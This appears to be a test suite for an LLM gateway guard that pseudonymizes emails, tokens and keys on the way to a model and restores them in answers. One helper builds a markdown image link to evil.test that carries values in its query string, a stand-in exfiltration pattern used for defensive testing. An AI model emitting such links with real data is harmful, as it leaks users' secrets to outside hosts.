// What leaves for the model holds no value, and what comes back holds it again: in every format, wherever a stream is cut,
// and for nobody who only writes a pseudonym down.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { DETECTORS } from '../../detect/detectors/index.ts'
import { createEngine } from '../../detect/engine.ts'
import { beginCall } from '../begin.ts'
import { Inspection } from '../inspection.ts'
import { createEnforcement } from '../policy.ts'
import { startGateway, startUpstream } from '../testing.ts'
import { askThrough, WAYS } from '../testing-formats.ts'
import { textsOfTurn } from '../texts.ts'
import { readRequest } from '../wire/openai-chat/read-request.ts'

const KEY = `ghp_${'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5'}`
const MAIL = 'ada.lovelace@mail.test'
const TOKEN = /\[[A-Z0-9-]+_[a-z2-9]{10}\]/g
const ON = { 'model-input-confidentiality': { mode: 'enforce' } }
const CALL = { keyId: 'k', asset: undefined, route: 'r', secret: new Uint8Array(32) }

const words = (text: string) => `To ${text}, \\ and "so" on. ![](https://evil.test/?q=${text})`
const file = (file_data: string, filename: string) => ({ type: 'file', file: { filename, file_data } })

for (const way of WAYS) {
  test(`${way.title}: the model sees pseudonyms, the client its own values`, async (t) => {
    const { sent, texts, calls, gateway } = await askThrough(
      t,
      way,
      ON,
      { system: `You write for ${MAIL}.`, user: `My key is ${KEY}.`, tool: `{"from": "${MAIL}"}` },
      (body) => {
        const tokens = [...new Set(body.match(TOKEN))].join(' and ')
        return { text: words(tokens), call: { to: tokens, list: [{ deep: tokens }] } }
      },
    )
    assert.ok(!sent.includes(KEY) && !sent.includes(MAIL))
    const [mail, key] = [...new Set(sent.match(TOKEN))]
    const both = `${MAIL} and ${KEY}`
    assert.deepEqual(texts, [words(both).replace(`q=${both}`, `q=${mail} and ${KEY}`)])
    assert.deepEqual(calls, [{ to: both, list: [{ deep: both }] }])
    assert.deepEqual(
      gateway.exchanges[0]?.decisions.map(({ action, because }) => `${action} ${because.join()}`),
      ['rewrite model-input-confidentiality', 'rewrite model-input-confidentiality'],
    )
    assert.match(`${mail} ${key}`, /^\[EMAIL_\w+\] \[GITHUB-PAT_\w+\]$/)
  })
}

/** A request of these words through the guard, and the answer that the model gives to what it sees. */
function converse(words: string, settings: object = {}, more: object = {}) {
  const enforcement = createEnforcement({
    'model-input-confidentiality': { mode: 'enforce', ...settings },
    'sensitive-output-handling': { mode: 'off' },
    'prompt-injection-io-handling': { mode: 'off' },
  })
  const turn = readRequest({ model: 'm', messages: [{ role: 'user', content: words }], ...more })
  const guards = beginCall(enforcement, turn, CALL)
  const request = new Inspection(enforcement, 'request', () => 0, guards)
  const [edit] = request.texts(textsOfTurn(turn))
  const sent = String(edit?.to ?? words)
  const answer = (pieces: readonly string[]) => {
    const inspection = new Inspection(enforcement, 'answer', () => 0, guards)
    const lane = inspection.open('assistant', '')
    let out = ''
    for (const piece of pieces) {
      lane.push(piece)
      out += lane.take(lane.safe)
    }
    lane.end()
    return out + lane.take(lane.safe)
  }
  return { sent, action: request.decision.action, verdict: request.verdicts[0], answer }
}

describe('a value', () => {
  const cases: [title: string, settings: object, action: string, sent: RegExp][] = [
    ['is replaced by a pseudonym', {}, 'rewrite', /^Mail \[EMAIL_[a-z2-9]{10}\] with \[GITHUB-PAT_[a-z2-9]{10}\]\.$/],
    ['is masked', { secrets: 'mask', personal: 'mask' }, 'rewrite', /^Mail \[email\] with \[github-pat\]\.$/],
    ['stops the request', { secrets: 'block' }, 'block', /ghp_/],
    ['is only noted', { secrets: 'note', personal: 'note' }, 'forward', /ghp_/],
    ['is passed over', { secrets: 'off', personal: 'off' }, 'forward', /ghp_/],
    ['of one family is left', { personal: 'off' }, 'rewrite', /^Mail ada\.lovelace@mail\.test with \[GITHUB-PAT_/],
    [
      'of one kind is treated in its own way',
      { kinds: { email: 'mask' } },
      'rewrite',
      /^Mail \[email\] with \[GITHUB-/,
    ],
    [
      'of one kind is looked for where its family is not',
      { secrets: 'off', personal: 'off', kinds: { email: 'mask' } },
      'rewrite',
      /^Mail \[email\] with ghp_/,
    ],
    ['is left where the guard observes', { mode: 'observe' }, 'forward', /ghp_/],
  ]
  for (const [title, settings, action, sent] of cases)
    test(title, () => {
      const said = converse(`Mail ${MAIL} with ${KEY}.`, settings)
      assert.equal(said.action, action)
      assert.match(said.sent, sent)
    })

  test('has the same pseudonym in each turn, whatever was said before', () => {
    const first = converse(`Mail ${MAIL}.`).sent.match(TOKEN)
    const second = converse(`Call +44 20 7946 0018. Then, again, mail ${MAIL}.`).sent.match(TOKEN)
    assert.equal(second?.[1], first?.[0])
  })

  test('comes back only to whom has sent it', () => {
    const token = converse(`Mail ${MAIL}.`).sent.match(TOKEN)?.[0] ?? ''
    const other = converse(`Who is ${token}? Not ${KEY}.`)
    assert.ok(other.sent.includes(token))
    assert.equal(other.answer([`It is ${token}.`]), `It is ${token}.`)
  })

  test('leaves JSON that was asked for whole', () => {
    const line = 'MIIEpAIBAAKCAQEA7bq1xY3zA5kL9vW2tU8rS6pQ4nO0mN3jI7hG1fE5dC9bB2aZ'
    const pem = `-----BEGIN RSA PRIVATE KEY-----\n${line}\n${line}\n-----END RSA PRIVATE KEY-----`
    const said = converse(`Keep ${pem}!`, {}, { response_format: { type: 'json_object' } })
    const [token] = said.sent.match(TOKEN) ?? []
    assert.deepEqual(JSON.parse(said.answer([JSON.stringify({ key: token })])), { key: pem })
  })
})

test('a value in a file of text is replaced there as well', async (t) => {
  const upstream = await startUpstream(t)
  const gateway = await startGateway(t, {
    upstreams: { u: { provider: 'openai', url: upstream.url } },
    routes: { r: { models: ['m'], upstreams: ['u'] } },
    guards: ON,
  })
  const encoded = Buffer.from(`name,key\nAda,${KEY}\n`).toString('base64')
  const content = [
    file(`data:text/csv;base64,${encoded}`, 'a.csv'),
    file(`data:application/octet-stream;base64,${encoded}`, 'a'),
  ]
  await gateway.send('/v1/chat/completions', { model: 'm', messages: [{ role: 'user', content }] })
  const sent = JSON.parse(upstream.recorded[0]?.body ?? '')
  for (const part of sent.messages[0].content) {
    const [head, data] = part.file.file_data.split(',')
    assert.match(head, /^data:(text\/csv|application\/octet-stream);base64$/)
    assert.match(Buffer.from(data, 'base64').toString(), /^name,key\nAda,\[GITHUB-PAT_[a-z2-9]{10}\]\n$/)
  }
})

test('an answer reads the same however it is cut, and gives no value in pieces of a pseudonym', () => {
  const said = converse(`Mail ${MAIL} with ${KEY} and +44 20 7946 0018.`)
  const tokens = said.sent.match(TOKEN) ?? []
  const piece = fc.oneof(
    fc.constantFrom(...tokens, ...tokens.map((token) => token.slice(0, 9)), 'https://x.test/?', '"', ' ', '[', '\n'),
    fc.string({ maxLength: 4 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 16 }), fc.array(fc.nat(300), { maxLength: 10 }), (pieces, cuts) => {
      const text = pieces.join('')
      const places = [0, ...cuts.toSorted((a, b) => a - b), text.length]
      const parts = places.slice(1).map((end, i) => text.slice(places[i], end))
      assert.equal(said.answer(parts), said.answer([text]))
    }),
    { numRuns: 200 },
  )
})

test('pseudonyms are themselves nothing that is looked for', () => {
  const engine = createEngine(DETECTORS.filter(({ family }) => family !== 'resource'))
  const values = [
    MAIL,
    KEY,
    '+44 20 7946 0018',
    '4111 1111 1111 1111',
    'AKIAIOSFODNN7EXAMPLQ',
    'DE89 3704 0044 0532 0130 00',
  ]
  for (let i = 0; i < 200; i++) {
    const { sent } = converse(`Mail ${values.join(', ')} ada${i}@mail.test`)
    assert.deepEqual(engine.scan(sent, { role: 'assistant' }).findings, [], sent)
  }
})
